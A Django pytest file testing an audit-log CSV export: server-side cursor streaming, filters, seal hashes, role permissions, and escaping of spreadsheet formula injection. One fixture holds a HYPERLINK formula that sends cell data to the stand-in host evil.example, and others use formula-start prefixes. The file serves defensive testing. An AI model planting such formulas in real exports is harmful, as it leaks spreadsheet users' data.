from __future__ import annotations

import csv
import io

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.urls import reverse

from audit.exports import FETCH_ROWS
from audit.models import AuditAction, AuditEntry
from tests import factories
from tests.audit.audit_data import HTMX, entry, opt_out, opted_out_and_back, seal_now

pytestmark = pytest.mark.django_db

EXPORT = reverse("audit:export")


def _rows(response) -> list[dict[str, str]]:
    assert isinstance(response, StreamingHttpResponse)
    text = response.getvalue().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_export_is_a_streamed_csv_download(manager_client, contact, specialist):
    opt_out(contact, specialist)
    response = manager_client.get(EXPORT)
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-log-')
    rows = _rows(response)
    assert [row["action"] for row in rows] == ["Opt-out"]
    assert rows[0]["salesforce_id"] == contact.salesforce_id
    assert rows[0]["ascend_id"] == contact.ascend_id
    assert rows[0]["actor"] == specialist.get_username()
    assert rows[0]["changes"].startswith("Email: opted out")


def test_export_reads_the_rows_through_a_server_side_cursor(manager_client):
    total = FETCH_ROWS + 700
    AuditEntry.objects.bulk_create(
        AuditEntry(actor_label="ann", source="staff", action="escalation", note=f"Q{n}")
        for n in range(total)
    )
    response = manager_client.get(EXPORT)
    chunks = iter(response.streaming_content)
    header = next(chunks)
    first_rows = next(chunks)
    assert header.startswith("\ufeffid,created_at".encode())
    # The export is mid-stream: its query is an open cursor on the database server, read a
    # chunk at a time, not a result held whole in this process.
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT statement FROM pg_cursors WHERE statement LIKE '%%audit_auditentry%%'"
        )
        open_cursors = [row[0] for row in cursor.fetchall()]
    assert len(open_cursors) == 1
    assert "DECLARE" in open_cursors[0].upper()
    rest = b"".join(chunks)
    lines = (first_rows + rest).decode().splitlines()
    assert len(lines) == total
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT count(*) FROM pg_cursors WHERE statement LIKE '%%audit_auditentry%%'"
        )
        assert cursor.fetchone()[0] == 0


@pytest.mark.django_db(transaction=True)
def test_outside_a_transaction_the_cursor_is_not_held_past_commit(manager_client):
    """A WITH HOLD cursor would make PostgreSQL materialise the whole result first."""
    AuditEntry.objects.bulk_create(
        AuditEntry(actor_label="ann", source="staff", action="escalation", note=f"Q{n}")
        for n in range(FETCH_ROWS + 10)
    )
    assert connection.get_autocommit()
    chunks = iter(manager_client.get(EXPORT).streaming_content)
    next(chunks)
    next(chunks)
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT is_holdable FROM pg_cursors WHERE statement LIKE '%%audit_auditentry%%'"
        )
        assert cursor.fetchall() == [(False,)]
    b"".join(chunks)


def test_export_applies_the_filters_and_ignores_the_page_cursor(
    manager_client, specialist, categories
):
    first = opted_out_and_back(factories.make_contact(), specialist)
    second = opted_out_and_back(factories.make_contact(), specialist, "phone")
    entry(actor=specialist, note="An escalation.")
    rows = _rows(manager_client.get(EXPORT + f"?kind=re_enrolment&after={second.pk}"))
    assert [int(row["id"]) for row in rows] == [second.pk, first.pk]
    assert {row["action"] for row in rows} == {"Re-enrolment"}
    assert rows[0]["consent_method"] == "Phone call"
    assert rows[0]["review"] == "awaiting review"
    rows = _rows(manager_client.get(EXPORT + "?channel=phone&kind=re_enrolment"))
    assert [int(row["id"]) for row in rows] == [second.pk]


def test_export_of_a_kind_made_of_two_actions(manager_client, contact):
    raised = entry(action=AuditAction.ESCALATION, contact=contact)
    entry(action=AuditAction.BOUNCE, contact=contact)
    resolved = entry(action=AuditAction.ESCALATION_RESOLVED, contact=contact)
    rows = _rows(manager_client.get(EXPORT + "?kind=escalation"))
    assert [int(row["id"]) for row in rows] == [resolved.pk, raised.pk]


def test_an_injected_hyperlink_formula_in_a_note_is_escaped(manager_client, contact, specialist):
    note = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
    opt_out(contact, specialist, note=note)
    rows = _rows(manager_client.get(EXPORT))
    assert rows[0]["note"] == "'" + note


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_escaped_in_notes_and_names(manager_client, start):
    entry(note=f"{start}1+1", actor_label=f"{start}cmd")
    row = _rows(manager_client.get(EXPORT))[0]
    assert row["note"] == f"'{start}1+1"
    assert row["actor"] == f"'{start}cmd"


def test_export_carries_the_seal_hash_and_review_state(manager_client, contact, specialist):
    back = opted_out_and_back(contact, specialist)
    seal_now()
    rows = _rows(manager_client.get(EXPORT + "?kind=re_enrolment"))
    assert rows[0]["seal_hash"] == back.seal.hash
    assert len(rows[0]["seal_hash"]) == 64


def test_export_with_bad_filters_shows_the_message_instead(manager_client):
    response = manager_client.get(EXPORT + "?start=31/12/2026")
    assert response.status_code == 422
    assert not isinstance(response, StreamingHttpResponse)
    assert "Enter a valid date." in response.content.decode()


def test_specialists_cannot_export_directly_or_under_htmx(specialist_client):
    assert specialist_client.get(EXPORT).status_code == 403
    assert specialist_client.get(EXPORT, headers=HTMX).status_code == 403


def test_system_team_can_export(system_client, contact, specialist):
    opt_out(contact, specialist)
    assert len(_rows(system_client.get(EXPORT))) == 1


def test_export_refuses_post(manager_client):
    assert manager_client.post(EXPORT).status_code == 405
